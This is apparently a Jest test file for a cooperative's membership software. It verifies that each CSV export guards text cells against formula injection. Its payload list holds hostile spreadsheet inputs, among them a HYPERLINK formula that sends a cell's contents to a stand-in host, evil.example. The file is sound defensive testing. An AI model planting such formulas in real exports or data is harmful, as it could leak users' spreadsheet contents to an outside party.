import { describe, expect, it } from '@jest/globals';
import type { MemberDto } from '@coop/contracts';
import { requestFiles } from '../church-tax/domain/kistam-files.js';
import { memberCsv } from '../exports/render/member-csv.js';
import { reportFiles } from '../fsak/domain/fsak-csv.js';
import type { FsakRecord } from '../fsak/domain/fsak-records.js';
import { IMPORT_KINDS } from '../member-import/import-types.js';
import { templateCsv } from '../member-import/files/templates.js';
import { taxReturnCsv } from '../tax-documents/render/tax-return.js';
import { csvField, csvLine, csvRaw, neutraliseFormula } from './csv-text.js';

/*
 * Every CSV file the product writes guards its text cells against formula injection (issue 38; OWASP "CSV Injection":
 * a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with `'`), with the one guard of
 * kernel/csv-text.ts: the member list (both dialects), the FSA control report, the KapESt return, the KiStAM request
 * file and the import templates. Each writer is fed hostile text in every text it takes from a user.
 */

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?"&A1;"click")',
  '+49 30 1234',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];
const payload = (i: number): string => PAYLOADS[i % PAYLOADS.length]!;

/** The cells of a CSV text: fields split at `separator` outside `"…"`, quotes undone, lines at CR LF outside quotes. */
function cells(text: string, separator: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === separator) {
      out.push(cell);
      cell = '';
    } else if (c === '\r' && body[i + 1] === '\n') {
      out.push(cell);
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '') out.push(cell);
  return out;
}

/** No cell would run as a formula; each payload fed in is there, prefixed. */
function expectGuarded(text: string, separator: string, fedIn: readonly string[]): void {
  const all = cells(text, separator);
  const formulas = all.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d[\d.,]*$/.test(c));
  expect(formulas).toEqual([]);
  for (const p of fedIn) expect(all).toContain(`'${p}`);
}

async function* batches<T>(items: readonly T[]): AsyncIterable<readonly T[]> {
  yield items;
}

describe('CSV injection: the one guard', () => {
  it('prefixes text starting with = + - @ tab or CR, and nothing else', () => {
    for (const s of ['=1+1', '+49 30', '-5', '@SUM(A1)', '\tx', '\rx']) expect(neutraliseFormula(s)).toBe(`'${s}`);
    for (const s of ['Müller', '1=1', 'a-b', '', ' =1', "'=1"]) expect(neutraliseFormula(s)).toBe(s);
  });

  it('quotes after guarding; leaves the writer’s own values as they are', () => {
    expect(csvField('=a;b')).toBe(`"'=a;b"`);
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a,b', ',')).toBe('"a,b"');
    expect(csvField(csvRaw(-1250))).toBe('-1250');
    expect(csvField(null)).toBe('');
    expect(csvLine(['-x', csvRaw('-1,00'), null])).toBe("'-x;-1,00;\r\n");
  });
});

describe('CSV injection: every CSV writer of the product', () => {
  it('the member list, in both dialects', async () => {
    const texts = [
      'salutation',
      'title',
      'name',
      'givenName',
      'street',
      'streetHomeNumber',
      'zipCode',
      'city',
      'country',
    ] as const;
    const member = Object.fromEntries([
      ['memberNr', 1],
      ...texts.map((f, i) => [f, payload(i)]),
      ['birthDate', '1970-01-31'],
      ['entryDate', '2020-02-01'],
      ['exitDate', null],
      ['shareAmount', 2],
      ['shareTotalEUR', -50_000],
    ]) as unknown as MemberDto;
    const fedIn = ['salutation', 'name', 'givenName', 'street', 'streetHomeNumber', 'zipCode', 'city'].map((f) =>
      String((member as unknown as Record<string, string>)[f]),
    );
    expectGuarded((await memberCsv(batches([member]), 'excel')).toString('utf8'), ';', fedIn);
    expectGuarded((await memberCsv(batches([member]), 'rfc4180')).toString('utf8'), ',', fedIn);
  });

  it('the FSA control report: the cooperative’s header and every member field', () => {
    const person = { name: payload(0), givenName: payload(1), birthDate: '1970-05-17', taxId: payload(2) };
    const record: FsakRecord = {
      kind: 'fsa',
      memberId: 'm1',
      memberNr: 1,
      euros: 300,
      person,
      address: {
        street: payload(3),
        houseNumber: payload(4),
        zipCode: payload(5),
        city: payload(0),
        country: null,
        foreign: false,
      },
      spouse: { name: payload(1), givenName: payload(3), birthDate: null, taxId: payload(4) },
    };
    const header = {
      name: payload(3),
      address: payload(0),
      zip: payload(4),
      city: payload(5),
      elmaFs: payload(1),
      taxNumber: payload(2),
      reportType: 'initial' as const,
      year: 2025,
      createdAt: '2026-01-15T10:00:00.000Z',
    };
    const [file] = reportFiles(header, [record]);
    expectGuarded(file!.content, ';', PAYLOADS);
  });

  it('the KapESt return: the cooperative, its tax number and the church names', () => {
    const csv = taxReturnCsv({
      cooperative: payload(0),
      taxNumber: payload(3),
      years: [2025],
      paymentDate: '2026-06-30',
      row31BaseEuros: 1000,
      row31KapestEuros: 250,
      row32BaseEuros: 0,
      row32KapestEuros: 0,
      row33BaseEuros: 0,
      row34SoliCents: 1375,
      kapestDueEuros: 250,
      churchTaxes: [{ churchId: 'ev', name: payload(1), cents: 2000 }],
    });
    expectGuarded(csv, ';', [payload(0), payload(3)]);
  });

  it('the KiStAM request file', () => {
    const [file] = requestFiles(
      [{ memberId: 'm1', memberNr: 7, taxId: payload(0), birthDate: '1970-01-31', kind: 'regular' }],
      '2025-08-31',
    );
    expectGuarded(file!, ';', [payload(0)]);
  });

  it('the import templates', () => {
    for (const kind of IMPORT_KINDS) expectGuarded(templateCsv(kind).toString('utf8'), ';', []);
  });
});
